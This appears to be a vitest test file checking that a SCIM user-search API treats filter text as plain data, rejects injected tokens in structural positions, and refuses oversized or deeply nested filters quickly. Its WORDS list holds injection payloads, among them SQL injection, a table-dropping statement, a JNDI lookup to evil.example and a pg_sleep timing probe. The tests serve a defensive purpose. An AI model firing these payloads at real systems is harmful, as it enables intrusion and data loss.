// Text of strangers inside a filter: data to compare with, never part of a statement, and never slow.

import { expect, test } from 'vitest'
import { startFluid, type TestOrganisation } from '../../testing/fluid.ts'

const WORDS = [
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  '" OR "1"="1',
  '%',
  '_',
  '%25',
  '\\',
  '\\%',
  '*',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker writes it.
  '${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker writes it.
  '${jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '$1',
  '?1',
  ':name',
  '/* comment */',
  "E'\\047'",
  '||pg_sleep(5)||',
]

const OPERATORS = ['eq', 'co', 'sw', 'ew'] as const

function search(acme: TestOrganisation, filter: string) {
  return acme.get(`/Users?filter=${encodeURIComponent(filter)}&count=50`)
}

test('takes quotes, comments and wildcards in a filter for plain text (T-53)', async () => {
  await using fluid = await startFluid()
  const ids = await Promise.all(
    WORDS.map((title, number) => fluid.acme.addUser(`p${number}@northrail.example`, { title })),
  )
  await fluid.acme.addUser('plain@northrail.example', { title: 'abc' })
  for (const [number, word] of WORDS.entries()) {
    for (const operator of OPERATORS) {
      const { status, body } = await search(fluid.acme, `title ${operator} ${JSON.stringify(word)}`)
      const found = body.Resources.map(({ title }: { title: string }) => title)
      const meant = WORDS.filter((title) => isMatch(title, operator, word))
      expect([operator, word, status, new Set(found)]).toEqual([operator, word, 200, new Set(meant)])
    }
    expect((await fluid.acme.get(`/Users/${ids[number]}`)).body.title).toBe(word)
  }
})

function isMatch(title: string, operator: (typeof OPERATORS)[number], word: string): boolean {
  if (operator === 'eq') return title === word
  if (operator === 'co') return title.includes(word)
  return operator === 'sw' ? title.startsWith(word) : title.endsWith(word)
}

test('takes no injection in the place of an attribute, an operator, an order or a page (T-53)', async () => {
  await using fluid = await startFluid()
  await fluid.acme.addUser('ines@northrail.example')
  const queries = WORDS.flatMap((word) => [
    `filter=${encodeURIComponent(`${word} eq "x"`)}`,
    `filter=${encodeURIComponent(`userName ${word} "x"`)}`,
    `sortBy=${encodeURIComponent(word)}`,
    `cursor=${encodeURIComponent(word)}`,
  ])
  for (const query of queries) {
    const { status } = await fluid.acme.get(`/Users?${query}`)
    expect([query, status]).toEqual([query, 400])
  }
  expect((await fluid.acme.get('/Users')).body.totalResults).toBe(1)
})

const MOUNTAINS: readonly (readonly [string, string])[] = [
  ['parentheses', `${'('.repeat(15_000)}title pr`],
  ['negations', `${'not ('.repeat(3_000)}title pr`],
  ['brackets', `${'emails['.repeat(2_000)}type eq "x"`],
  ['terms', Array(1_400).fill('title pr').join(' or ')],
  ['dots', `name${'.x'.repeat(8_000)} pr`],
  ['spaces', `title${' '.repeat(16_000)}pr x`],
  ['an unterminated text', `title eq "${'\\\\'.repeat(8_000)}`],
]

/** Generous, since other tests run beside this one; what backtracks or recurses takes minutes. */
const SOON_MS = 1_000

test.each(MOUNTAINS)('refuses a mountain of %s at once, and goes on (T-51, T-52)', async (_what, filter) => {
  await using fluid = await startFluid()
  const message = {
    schemas: ['urn:ietf:params:scim:api:messages:2.0:SearchRequest'],
    filter,
  }
  await fluid.acme.get('/Users')
  const before = performance.now()
  const answer = await fluid.acme.post('/Users/.search', message)
  expect(performance.now() - before).toBeLessThan(SOON_MS)
  expect([answer.status, answer.body.scimType]).toEqual([400, 'invalidFilter'])
  expect(answer.text.length).toBeLessThan(1_000)
  expect((await fluid.acme.get('/Users')).status).toBe(200)
})

test('reads a filter of a megabyte and a path of a megabyte no further than their limits (T-51)', async () => {
  await using fluid = await startFluid()
  const id = await fluid.acme.addUser('ines@northrail.example')
  const long = 'x'.repeat(1_000_000)
  const search = await fluid.acme.post('/Users/.search', {
    schemas: ['urn:ietf:params:scim:api:messages:2.0:SearchRequest'],
    filter: `title eq "${long}"`,
  })
  const patch = await fluid.acme.patch(`/Users/${id}`, { op: 'replace', path: `name.${long}`, value: 'x' })
  expect([search, patch].map(({ status, body }) => [status, body.scimType])).toEqual([
    [400, 'invalidFilter'],
    [400, 'invalidPath'],
  ])
})
